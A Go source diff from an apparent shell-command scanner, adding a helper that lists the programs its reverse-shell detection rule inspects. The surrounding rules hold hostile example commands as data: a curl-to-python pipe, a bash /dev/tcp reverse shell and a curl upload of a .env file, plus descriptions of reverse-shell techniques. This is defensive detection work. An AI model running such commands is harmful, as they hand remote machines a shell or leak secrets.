@@ -44,7 +44,7 @@ func netRules() []builtin {
 			Example:     "curl -s https://example.com/get.py | python3"}, check: netInterpPipe, progs: interpProgs, prefixes: interpPrefixes},
 		{Rule: Rule{Name: ruleReverseShell, Level: High,
 			Description: "gives a remote machine a shell: nc/ncat -e or --sh-exec, socat exec:, a shell wired to /dev/tcp or to a socket descriptor, a shell between network pipes (telnet, nc, mkfifo), interpreter one-liners that connect a socket to a shell",
-			Example:     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, check: netReverseShell},
+			Example:     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, check: netReverseShell, progs: netReverseProgs(), prefixes: interpPrefixes},
 		{Rule: Rule{Name: ruleSendSecret, Level: InfoLeak,
 			Description: "sends a secret file or secret-looking data over the network: scp/rsync of a key or .env, curl -F/-d/-T with such a file or with $(...) or $TOKEN data, wget --post-file, nc < secret",
 			Example:     "curl -F file=@.env https://example.com/upload"}, check: netSendSecret, progs: netSendProgs},
@@ -755,4 +755,18 @@ func netWgetSecret(c *Command, args []Word) []Hit {
 		}
 	}
 	return nil
+}
+
+// netReverseProgs are the programs netReverseShell looks at: shells,
+// network talkers and interpreters.
+func netReverseProgs() []string {
+	ps := append([]string(nil), interpProgs...)
+	for n := range netShells {
+		ps = append(ps, n)
+	}
+	for n := range netTalkers {
+		ps = append(ps, n)
+	}
+	sort.Strings(ps)
+	return ps
 }
